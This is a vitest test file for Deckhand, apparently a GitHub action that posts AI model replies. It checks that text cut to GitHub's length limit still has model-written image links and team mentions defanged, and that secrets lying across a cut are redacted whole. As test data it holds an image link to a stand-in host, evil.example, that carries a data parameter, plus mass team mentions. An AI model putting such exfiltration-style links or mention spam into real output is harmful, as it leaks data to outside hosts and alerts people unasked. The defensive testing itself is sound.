// A body cut to GitHub's 65,536 characters comes out as safe as it went in
// (issue 27, item 3), end to end against the bundled action. The cut leaves
// out the middle of a too-long text; when the opening line of a code block is
// in that middle, what the model wrote inside the block (an external image, a
// team mention) is rendered after the cut. Deckhand defangs the text as cut,
// so what GitHub renders is what was judged.
//
// Variants tried — the block whose opening line the cut drops:
//   - a backtick fence, with and without an info string
//   - a tilde fence
//   - a fence longer than three (````)
//   - a fence inside a block quote, and one indented by three spaces
// and where the body goes:
//   - an answer posted as a comment (mention)
//   - a review's body, and an inline review comment
//   - a reply in a review thread (a mention there)
//   - a pull request's body (issue-to-PR fix)
// and a text that defanging lengthens past the limit (thousands of team
// mentions, each put in backticks): cut shorter until it fits, still defanged.
// And a cut never goes through a secret: a value of the run's secrets lying
// across the point where the job summary cuts an answer, or the comment does,
// is redacted before either cut (a part of it would match no pattern).
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { reply, text, toolUse } from '../emulators/anthropic.js';
import { scenario, type Scenario } from '../helpers/github-scenario.js';

const MAX = 65_536;
const IMAGE = '![pixel](https://evil.example/p.png?d=1)';
const TEAM = '@octo/admins';

/** Prose long enough that the cut falls after it, then a block whose end (with the payload) the cut keeps. */
function tooLong(open: string, close: string, prefix = '') {
  const prose = Array.from({ length: 900 }, (_, i) => `Line ${i} of the explanation, in plain words that need no markup at all.`).join('\n');
  const code = Array.from({ length: 300 }, (_, i) => `${prefix}const value${i} = compute(${i}); // step ${i} of the generated table`).join('\n');
  const payload = [`${prefix}${IMAGE}`, `${prefix}cc ${TEAM}`].join('\n');
  return { body: `${prose}\n\n${prefix}${open}\n${code}\n${payload}\n${prefix}${close}\n\nThat is all.`, fences: [`${prefix}${open}`, `${prefix}${close}`] };
}

const FENCES: Array<[string, string, string, string?]> = [
  ['a backtick fence', '```', '```'],
  ['a backtick fence with an info string', '```ts', '```'],
  ['a tilde fence', '~~~', '~~~'],
  ['a four-backtick fence', '````md', '````'],
  ['a fence in a block quote', '```', '```', '> '],
  ['a fence indented by three spaces', '```', '```', '   '],
];

/** The body as posted: within the limit, cut where the test meant, and with the payload defanged. */
function expectSafe(posted: string, fences: readonly string[]) {
  expect(posted.length).toBeLessThanOrEqual(MAX);
  expect(posted).toContain('characters of this text are left out here');
  // The cut dropped the block's opening line and kept its closing one (or the test would not try the attack).
  expect(posted.split('\n').filter((line) => fences.includes(line))).toEqual([fences[1]]);
  expect(posted).not.toContain('compute(0)');
  expect(posted).not.toContain(IMAGE);
  expect(posted).toContain('[pixel](https://evil.example/p.png?d=1)');
  expect(posted).not.toMatch(/(^|[^`])@octo\/admins/);
}

let s: Scenario;
afterEach(async () => s?.cleanup());

const APP = "export function greet(name) {\n  return 'Helo, ' + name;\n}\n";

async function repo() {
  s = await scenario({ 'src/app.js': APP, 'README.md': '# widgets\n' }, { users: { alice: 'write' } });
}

function pullRequest() {
  s.gh.commitFiles('feature', { 'src/app.js': APP.replace('Helo', 'Hi') }, 'Change greeting');
  const pr = s.gh.addPull({ title: 'Change greeting', body: 'Says Hi.', user: 'alice', head: 'feature' });
  s.checkout('feature');
  return pr;
}

describe('a cut that drops a fence does not unfence what the model wrote', () => {
  it.each(FENCES)('%s, in an answer posted as a comment', async (_, open, close, prefix) => {
    await repo();
    s.checkout();
    const issue = s.gh.addIssue({ title: 'Explain', body: 'What does greet do?', user: 'alice' });
    const comment = s.gh.addComment(issue.number, { body: '@deckhand explain greet in detail', user: 'alice' });
    const long = tooLong(open, close, prefix);
    s.model.enqueue(reply(text(long.body)));

    const run = await s.run('issue_comment', s.gh.payload.issueComment(comment));

    expect(run.code).toBe(0);
    const final = s.gh.requests.filter((r) => r.method === 'PATCH' && /\/issues\/comments\/\d+$/.test(r.path)).at(-1)!;
    expectSafe((final.body as { body: string }).body, long.fences);
  });

  it("in a review's body and in an inline comment", async () => {
    await repo();
    const pr = pullRequest();
    const summary = tooLong('```', '```');
    const inline = tooLong('~~~', '~~~');
    s.model.enqueue(reply(toolUse('AddReviewComment', { path: 'src/app.js', line: 2, body: inline.body })), reply(text(summary.body)));

    const run = await s.run('pull_request', s.gh.payload.pullRequest(pr, 'opened'));

    expect(run.code).toBe(0);
    const [review] = s.gh.requests.filter((r) => r.method === 'POST' && /\/pulls\/\d+\/reviews$/.test(r.path));
    const posted = review!.body as { body: string; comments: Array<{ body: string }> };
    expectSafe(posted.body, summary.fences);
    expect(posted.comments).toHaveLength(1);
    expectSafe(posted.comments[0]!.body, inline.fences);
  });

  it('in a reply in a review thread', async () => {
    await repo();
    const pr = pullRequest();
    const comment = s.gh.addReviewComment(pr.number, { body: '@deckhand why Hi?', user: 'alice', path: 'src/app.js', line: 2 });
    const long = tooLong('```', '```');
    s.model.enqueue(reply(text(long.body)));

    const run = await s.run('pull_request_review_comment', s.gh.payload.reviewComment(comment));

    expect(run.code).toBe(0);
    const replies = s.gh.requests.filter((r) => (r.method === 'POST' && /\/comments\/\d+\/replies$/.test(r.path)) || (r.method === 'PATCH' && /\/pulls\/comments\/\d+$/.test(r.path)));
    expect(replies.length).toBeGreaterThan(0);
    expectSafe((replies.at(-1)!.body as { body: string }).body, long.fences);
  });

  it("in a pull request's body", async () => {
    await repo();
    s.checkout();
    const issue = s.gh.addIssue({ title: 'Typo', body: 'Helo should be Hello.', user: 'alice' });
    const long = tooLong('```', '```');
    const file = join(s.workspace, 'src/app.js');
    s.model.enqueue(
      reply(toolUse('Read', { file_path: file })),
      reply(toolUse('Edit', { file_path: file, old_string: 'Helo', new_string: 'Hello' })),
      reply(text(`Fix the greeting\n\n${long.body}`)),
    );

    const run = await s.run('issues', s.gh.payload.issues(issue, 'labeled', { label: 'deckhand' }));

    expect(run.code).toBe(0);
    const [created] = s.gh.requests.filter((r) => r.method === 'POST' && /\/pulls$/.test(r.path));
    expectSafe((created!.body as { body: string }).body, long.fences);
  });
});

describe('a text defanging lengthens past the limit', () => {
  it('is cut shorter until it fits, every mention still code', async () => {
    await repo();
    s.checkout();
    const issue = s.gh.addIssue({ title: 'Explain', body: 'Who owns what?', user: 'alice' });
    const comment = s.gh.addComment(issue.number, { body: '@deckhand who owns what?', user: 'alice' });
    s.model.enqueue(reply(text(Array.from({ length: 6_000 }, (_, i) => `cc @octo/team-${i}`).join('\n'))));

    const run = await s.run('issue_comment', s.gh.payload.issueComment(comment));

    expect(run.code).toBe(0);
    const body = (s.gh.requests.filter((r) => r.method === 'PATCH' && /\/issues\/comments\/\d+$/.test(r.path)).at(-1)!.body as { body: string }).body;
    expect(body.length).toBeLessThanOrEqual(MAX);
    expect(body.length).toBeGreaterThan(MAX / 2);
    expect(body).toContain('characters of this text are left out here');
    expect(body).toContain('cc `@octo/team-0`');
    expect(body).toContain('cc `@octo/team-5999`');
    expect(body).not.toMatch(/(^|[^`])@octo\/team/m);
  });
});

describe('a cut never leaves part of a secret', () => {
  const DB_PASSWORD = 'Hn4-Wq8Ls2Kd7Rv3Ft9Xb6Mc';
  const halves = [DB_PASSWORD.slice(0, 12), DB_PASSWORD.slice(12)];

  const mention = async () => {
    await repo();
    s.checkout();
    const issue = s.gh.addIssue({ title: 'Explain', body: 'What does greet do?', user: 'alice' });
    return s.gh.addComment(issue.number, { body: '@deckhand explain', user: 'alice' });
  };
  const posted = () => s.gh.requests.filter((r) => r.method === 'PATCH' && /\/issues\/comments\/\d+$/.test(r.path)).map((r) => (r.body as { body: string }).body);

  it("a secret across the job summary's cut (500,000 characters) is [REDACTED] whole", async () => {
    const comment = await mention();
    const filler = 'x'.repeat(99) + '\n';
    s.model.enqueue(reply(text(`${filler.repeat(5_000).slice(0, 500_000 - 12)}${DB_PASSWORD}\n${filler.repeat(200)}`)));

    const run = await s.run('issue_comment', s.gh.payload.issueComment(comment), {}, { DB_PASSWORD });

    expect(run.code).toBe(0);
    for (const where of [run.summary, run.stdout, ...posted()]) for (const half of halves) expect(where).not.toContain(half);
  });

  it("a line of secrets across the comment's cut leaves nothing of any of them", async () => {
    const comment = await mention();
    // One first line of the value over and over, longer than a comment: the cut (at a line break if there is one before it) falls inside one of them.
    s.model.enqueue(reply(text(`${`${DB_PASSWORD} `.repeat(7_000)}\nThe end.`)));

    const run = await s.run('issue_comment', s.gh.payload.issueComment(comment), {}, { DB_PASSWORD });

    expect(run.code).toBe(0);
    const body = posted().at(-1)!;
    expect(body).toContain('characters of this text are left out here');
    const line = body.split('\n').find((l) => l.startsWith('[REDACTED]'))!;
    // Markers only, the last perhaps cut short: no character of the value left.
    expect(line).toMatch(/^(?:\[REDACTED\] )+(?:\[[A-Z]*\]?)?$/);
  });
});
